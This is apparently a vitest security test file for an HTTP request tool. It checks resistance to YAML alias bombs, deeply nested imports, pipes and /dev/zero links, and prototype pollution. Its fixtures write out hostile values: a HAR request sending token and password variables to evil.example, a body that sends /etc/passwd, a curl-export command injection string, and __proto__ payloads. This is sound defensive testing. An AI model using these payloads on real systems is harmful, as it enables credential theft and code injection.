import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { blankRequest } from '../../../src/contract/payload/http-request.ts';
import { fillVariables } from '../../../src/contract/payload/variables.ts';
import { Collection } from '../../../src/main/tools/http/library/collection.ts';
import { curlOf } from '../../../src/main/tools/http/library/export/curl.ts';
import { readBrunoFolder } from '../../../src/main/tools/http/library/bruno/folder.ts';
import { unfolded } from '../../../src/main/tools/http/library/import/openapi.ts';
import { readImported } from '../../../src/main/tools/http/library/import/read-file.ts';
import { filesSent } from '../../../src/main/tools/http/library/import/shared.ts';
import { readRequest, writeRequest } from '../../../src/main/tools/http/library/request-file.ts';

const imported = (name: string, text: string) => readImported(name, Buffer.from(text));

describe('a request file made to harm', () => {
  it('is read in a time that grows with its size alone', () => {
    // With each of these a reader can be led to look at all the rest again.
    const aliases = `a: &a x\nurl: u\nunknown:\n${'- *a\n'.repeat(14_000)}`;
    expect(readRequest('f', 'f', aliases).url).toBe('u');
    const keys = `url: u\nunknown:\n${Array.from({ length: 7000 }, (_, i) => `  k${i}: x\n`).join('')}`;
    expect(readRequest('f', 'f', keys).url).toBe('u');
  });

  it('with more values than anybody wrote is refused before it is taken apart, and a long text is read', () => {
    for (const many of [`url: [${'a,'.repeat(1_500_000)}]`, `url: x\n${'- {'.repeat(500_000)}`])
      expect(() => readRequest('f', 'f', many)).toThrow(
        expect.objectContaining({
          failure: expect.objectContaining({ hint: expect.stringContaining('too many values') }),
        }),
      );
    const text = `${'lorem ipsum '.repeat(6)}\n`.repeat(40_000);
    const body = blankRequest({ url: 'u', body: { kind: 'text', text, type: '' } });
    expect(readRequest('f', 'f', writeRequest('f', 'f', body, null)).body).toEqual(body.body);
  });

  it('with a key that is said twice is refused with its place, and an alias is the last anchor before it', () => {
    expect(() => readRequest('f', 'f', 'url: a\nmethod: GET\nurl: b\n')).toThrow(/line 3, column 1/);
    expect(readRequest('f', 'f', 'x: &a one\nurl: *a\ny: &a two\ndocs: *a\n')).toMatchObject({
      url: 'one',
      docs: 'two',
    });
  });
});

it('settings and environments that are pipes, links or huge are told, and never read', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'wirebench-collection-'));
  try {
    const settings = join(folder, 'collection.yaml');
    const collection = new Collection(folder, () => undefined);
    const problem = async () => {
      await collection.look();
      return collection.brief().problem?.message ?? null;
    };
    execFileSync('mkfifo', [settings]);
    expect(await problem()).toBe('collection.yaml is no file.');
    await rm(settings);
    await symlink('/dev/zero', settings);
    expect(await problem()).toBe('collection.yaml is no file.');
    await rm(settings);
    await writeFile(settings, `name: x\n#${'x'.repeat(4 * 1024 * 1024)}`);
    expect(await problem()).toBe('collection.yaml is larger than 4 MiB.');
    await rm(settings);
    expect(await problem()).toBeNull();
    await mkdir(join(folder, 'environments'));
    await symlink('/dev/zero', join(folder, 'environments', 'far.yaml'));
    await expect(collection.environment('far')).rejects.toThrow('environments/far.yaml is no file.');
  } finally {
    await rm(folder, { recursive: true });
  }
});

it('variables that name each other many times are filled once each', () => {
  const next = (name: string) => `{{v${Number(name.slice(1)) + 1}}}`.repeat(1000);
  const get = (name: string) => (name === 'v8' ? '' : next(name));
  expect(fillVariables('a{{v0}}b', get)).toMatchObject({ ok: true, text: 'ab' });
  const long = (name: string) => (name === 'v8' ? 'x' : next(name));
  expect(fillVariables('{{v0}}', long)).toMatchObject({ ok: false, why: 'too long' });
});

describe('a file to import that was made to harm', () => {
  it('with schemas that name each other many times brings an example of some size', async () => {
    const schemas = Object.fromEntries(
      Array.from({ length: 8 }, (_, i) => {
        const next = i === 7 ? { type: 'string' } : { $ref: `#/components/schemas/s${i + 1}` };
        const properties = Object.fromEntries(Array.from({ length: 20 }, (_each, n) => [`p${n}`, next]));
        return [`s${i}`, { type: 'object', properties }];
      }),
    );
    const schema = { $ref: '#/components/schemas/s0' };
    const post = { requestBody: { content: { 'application/json': { schema } } }, responses: {} };
    const api = { openapi: '3.0.0', paths: { '/a': { post } }, components: { schemas } };
    const { requests } = await imported('a.json', JSON.stringify(api));
    const body = requests[0]?.request.body;
    expect(body?.kind === 'json' && Object.keys(JSON.parse(body.text) as object).length).toBe(20);
    expect(JSON.stringify(body).length).toBeLessThan(1_000_000);
    const loop: Record<string, unknown> = { a: [1] };
    loop['self'] = loop;
    expect(unfolded(loop, 10)).toMatchObject({ copy: { a: [1], self: { a: [1], self: {} } }, nodes: 10 });
  });

  it('with thousands of groups in groups is refused', async () => {
    const depth = 20_000;
    const postman = `{"info":{"name":"x"},"item":${'[{"name":"f","item":'.repeat(depth)}[]${'}]'.repeat(depth)}}`;
    await expect(imported('a.json', postman)).rejects.toThrow(/can’t be imported/);
    await expect(imported('a.yaml', `openapi: ${'['.repeat(depth)}`)).rejects.toThrow(/can’t be imported/);
    await expect(imported('a.yaml', `a: ${'x'.repeat(11 * 1024 * 1024)}`)).rejects.toThrow(/10 MiB/);
  });

  it('reads no pipe and no device, also not by a link', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'bruno-'));
    try {
      await mkdir(join(folder, 'environments'));
      await writeFile(
        join(folder, 'one.bru'),
        'meta {\n  name: One\n  type: http\n}\n\nget {\n  url: http://h\n}\n',
      );
      execFileSync('mkfifo', [join(folder, 'environments/pipe.bru'), join(folder, 'pipe.bru')]);
      await symlink('/dev/zero', join(folder, 'environments/zero.bru'));
      await symlink('/dev/zero', join(folder, 'zero.bru'));
      expect(await readBrunoFolder(folder)).toMatchObject({ requests: [{ folders: [] }], environments: [] });
    } finally {
      await rm(folder, { recursive: true });
    }
  });

  it('of what was sent (HAR) has braces as braces, and no variables of the collection', async () => {
    const request = {
      method: 'POST',
      url: 'http://evil.example/{{token}}',
      headers: [{ name: 'X', value: '{{key}}' }],
      postData: { mimeType: 'text/plain', text: '{{password}}' },
    };
    const { requests } = await imported('a.har', JSON.stringify({ log: { entries: [{ request }] } }));
    expect(requests[0]?.request).toMatchObject({
      url: 'http://evil.example/\\{{token}}',
      headers: [{ name: 'X', value: '\\{{key}}' }],
      body: { text: '\\{{password}}' },
    });
  });

  it('says which files of this machine its requests would send', () => {
    const path = { kind: 'path' as const, path: '/etc/passwd' };
    const part = { kind: 'file' as const, name: 'f', on: true, file: path, fileName: '', type: '' };
    for (const body of [
      { kind: 'file' as const, file: path, type: '' },
      { kind: 'multipart' as const, parts: [part] },
    ])
      expect(filesSent(blankRequest({ name: 'Log in', body }))).toEqual([
        '“Log in” sends the file /etc/passwd of this machine: see that this is meant before you send it.',
      ]);
    expect(filesSent(blankRequest())).toEqual([]);
  });
});

it('a request as a command of curl runs nothing that stands in it, nor takes it for an option', () => {
  const evil = '\u0001(id)\u0001';
  const request = blankRequest({
    url: `-o{{x}}`,
    headers: [{ name: 'X', value: evil, on: true }],
    body: { kind: 'json', text: evil },
  });
  const { text } = curlOf(request, { get: () => ({ value: evil, secret: false }) });
  // A real shell takes the words apart.
  const words = execFileSync('sh', ['-c', text.replace(/^curl/, 'printf "%s\\0"')], {
    encoding: 'utf8',
  }).split('\0');
  expect(words).toContain(`X: ${evil}`);
  expect(words).toContain(evil);
  expect(words.slice(0, 2)).toEqual(['--url', expect.stringContaining(evil)]);
});

describe('an imported file', () => {
  it('may name things as every object does', async () => {
    const evil = '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}';
    const files = [
      `{"info":{"name":"__proto__","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"__proto__":{"polluted":1},"variable":[{"key":"__proto__","value":"x"}],"item":[{"name":"__proto__","request":{"method":"GET","url":"http://h/","body":{"mode":"raw","raw":${JSON.stringify(evil)}}}}]}`,
      `{"openapi":"3.0.0","info":{"title":"x","version":"1"},"__proto__":{"polluted":1},"paths":{"__proto__":{"get":{"responses":{}}},"/a":{"get":{"responses":{},"requestBody":{"content":{"application/json":{"schema":{"properties":{"__proto__":{"type":"object","properties":{"polluted":{"example":1}}}}}}}}}}},"components":{"schemas":{"__proto__":${evil}}}}`,
      `{"log":{"__proto__":{"polluted":1},"entries":[{"request":{"method":"GET","url":"http://h/","headers":[{"name":"__proto__","value":"x"}]}}]}}`,
      `openapi: 3.0.0\n__proto__: {polluted: 1}\npaths:\n  /a:\n    __proto__: {polluted: 1}\n    get: {responses: {}}\n`,
    ];
    for (const text of files) await imported('x', text).catch(() => undefined);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect((await imported('file.json', files[0]!)).variables).toEqual([{ name: '__proto__', value: 'x' }]);
  });
});
